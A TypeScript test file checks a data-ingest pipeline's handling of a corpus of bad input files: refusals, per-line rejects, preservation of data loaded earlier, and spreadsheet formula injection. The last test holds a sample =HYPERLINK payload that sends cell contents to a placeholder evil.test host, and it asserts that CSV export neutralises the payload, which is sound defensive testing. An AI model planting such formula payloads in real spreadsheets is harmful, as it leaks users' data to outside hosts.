// The bad-input corpus (fixtures/bad/expectations.json) through ingest, case by case, on top of a good
// org: each input is refused with its reason or loads with exactly the rejects and warnings expected,
// and nothing loaded before is lost (a refused file leaves every src_ table as it was; a loaded one
// changes only its own dataset). bad-inputs.chaos.ts runs the same corpus through whole pipeline runs
// and the dashboard API.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATASET_NAMES, datasetForFile } from '../datasets.ts';
import { exec, ident } from '../db.ts';
import { harness, type Harness } from '../ingest/test-helpers.ts';
import { BASE_DIR, loadExpectations, writeCase } from './corpus.ts';
import { srcFingerprints } from './fingerprint.ts';

const { cases } = loadExpectations();
let h: Harness;
let base: Record<string, string>;
const baseFiles = () => fs.readdirSync(BASE_DIR).sort().map((n) => ({ path: path.join(BASE_DIR, n), name: n }));

beforeAll(async () => {
  h = await harness();
  const res = await h.load(baseFiles());
  if (res.some((r) => r.status !== 'loaded' || r.rowsRejected || r.rowsWarned)) throw new Error(`the base org does not load cleanly: ${JSON.stringify(res)}`);
  base = await srcFingerprints(h.conn);
  // a copy of each src_ table, to put the base back after a case in one statement per dataset
  for (const d of DATASET_NAMES) await exec(h.conn, `create table ${ident(`base_${d}`)} as select * from ${ident(`src_${d}`)}`);
});

/** Put back the base org's rows (a case changes at most its own dataset; rejects are per run). */
async function restoreBase(): Promise<void> {
  const now = await srcFingerprints(h.conn);
  for (const d of DATASET_NAMES) {
    if (now[d] === base[d]) continue;
    await exec(h.conn, `delete from ${ident(`src_${d}`)}`);
    await exec(h.conn, `insert into ${ident(`src_${d}`)} select * from ${ident(`base_${d}`)}`);
  }
}
afterAll(() => h?.close());

describe('the corpus', () => {
  it('has at least 40 inputs, each with a description and an outcome', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map((c) => c.id)).size).toBe(cases.length);
    for (const c of cases) {
      expect(c.what, c.id).toBeTruthy();
      expect(['loaded', 'refused'], c.id).toContain(c.expect.status);
      if (c.expect.status === 'refused') expect(c.expect.reason, c.id).toBeTruthy();
      else expect(c.expect.rejects, c.id).toBeDefined();
    }
    const dirs = fs.readdirSync(path.join(BASE_DIR, '..', 'cases')).sort();
    expect(dirs).toEqual(cases.filter((c) => !c.generate).map((c) => c.id).sort());
  });
});

describe.each(cases.map((c) => [c.id, c] as const))('bad input %s', (id, c) => {
  it(`${c.expect.status}: ${c.what}`, async () => {
    await restoreBase();
    const dir = path.join(h.dir, 'cases', id);
    fs.mkdirSync(dir, { recursive: true });
    const names = writeCase(c, dir);
    const runId = 1000 + cases.indexOf(c);
    const results = await h.load(names.map((n) => ({ path: path.join(dir, n), name: n })), { runId });
    expect(results).toHaveLength(1);
    const [res] = results;
    const e = c.expect;
    expect(res.status).toBe(e.status);
    if (e.status === 'refused') {
      expect(res.reason?.startsWith(`${names[0]}: `), res.reason).toBe(true); // names the file first
      expect(res.reason).toContain(e.reason);
    }
    if (e.rowsRead !== undefined) expect(res.rowsRead).toBe(e.rowsRead);
    if (e.rowsLoaded !== undefined) expect(res.rowsLoaded).toBe(e.rowsLoaded);

    const got = await h.rows<{ line: number; column: string | null; severity: string; reason: string; file: string }>(
      `select line, "column" as column, severity, reason, file from rejects where run_id = ${runId} order by line, "column", reason`);
    const want = [...(e.rejects ?? [])].sort((a, b) => a[0] - b[0] || String(a[1]).localeCompare(String(b[1])) || a[3].localeCompare(b[3]));
    expect(got.map((r) => [r.line, r.column, r.severity])).toEqual(want.map((w) => [w[0], w[1], w[2]]));
    got.forEach((r, i) => {
      expect(r.file).toBe(names[0]);
      expect(r.reason).toContain(want[i][3]);
    });
    expect(res.rowsRejected).toBe(new Set(want.filter((w) => w[2] === 'reject').map((w) => w[0])).size);

    // Nothing loaded before is lost: a refused file changes nothing; a loaded one only its own dataset.
    const now = await srcFingerprints(h.conn);
    const own = datasetForFile(names[0]);
    for (const d of DATASET_NAMES) {
      if (e.status === 'loaded' && d === own) continue;
      expect(now[d], `src_${d} after ${id}`).toBe(base[d]);
    }
  });
});

describe('a file DuckDB cannot read does not take the rest of the drop down', () => {
  it('refuses a truncated Parquet file and a mixed-line-ending CSV while the other files of the drop load and commit', async () => {
    await restoreBase();
    const dir = path.join(h.dir, 'drop');
    fs.mkdirSync(dir, { recursive: true });
    for (const id of ['parquet-truncated', 'mixed-line-endings']) writeCase(cases.find((c) => c.id === id)!, dir);
    fs.writeFileSync(path.join(dir, 'check_ins_extra.csv'), 'employee_id,week_of,pulse\nE2,2026-03-16,5\n');
    const res = await h.load(['check_ins_extra.csv', 'employees.parquet', 'roles.csv'].map((n) => ({ path: path.join(dir, n), name: n })), { runId: 2000 });
    expect(res.map((r) => [r.file, r.status])).toEqual([
      ['check_ins_extra.csv', 'loaded'], ['employees.parquet', 'refused'], ['roles.csv', 'loaded']]);
    // h.load committed: the transaction was not aborted by the unreadable file
    expect(await h.rows(`select pulse from src_check_ins where week_of = '2026-03-16'`)).toEqual([{ pulse: 5 }]);
    expect(await h.rows(`select count(*)::INTEGER as n from src_roles where _run_id = 2000`)).toEqual([{ n: 3 }]);
  });
});

describe('formula injection', () => {
  it('keeps =HYPERLINK(…), +, -, @ cells verbatim in the data and neutralises them in a CSV export', async () => {
    await restoreBase();
    const c = cases.find((x) => x.id === 'formula-injection')!;
    const dir = path.join(h.dir, 'formula');
    fs.mkdirSync(dir, { recursive: true });
    const [name] = writeCase(c, dir);
    const [res] = await h.load([{ path: path.join(dir, name), name }], { runId: 3000 });
    expect(res.status).toBe('loaded');
    const rows = await h.rows<{ employee_id: string; full_name: string; department: string; location: string | null }>(
      "select employee_id, full_name, department, location from src_employees where employee_id in ('E4', 'E5') order by 1");
    expect(rows).toEqual([
      { employee_id: 'E4', full_name: '=HYPERLINK("http://evil.test/?q="&A1,"Click me")', department: '+Sales', location: '@SUM(1+1)' },
      { employee_id: 'E5', full_name: '-2+3', department: 'Engineering', location: '=1+1' },
    ]);
    const { exportToBuffer } = await import('../export.ts');
    const { bytes } = await exportToBuffer(h.conn, 'src_employees', 'csv');
    const text = bytes.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?q=""&A1,""Click me"")"`);
    for (const cell of ["'+Sales", "'@SUM(1+1)", "'-2+3", "'=1+1"]) expect(text).toContain(cell);
    // no cell of the export starts with a formula character
    expect(text.split(/\r?\n/).flatMap((l) => l.split(',')).filter((v) => /^"?[=+@-]/.test(v))).toEqual([]);
  });
});
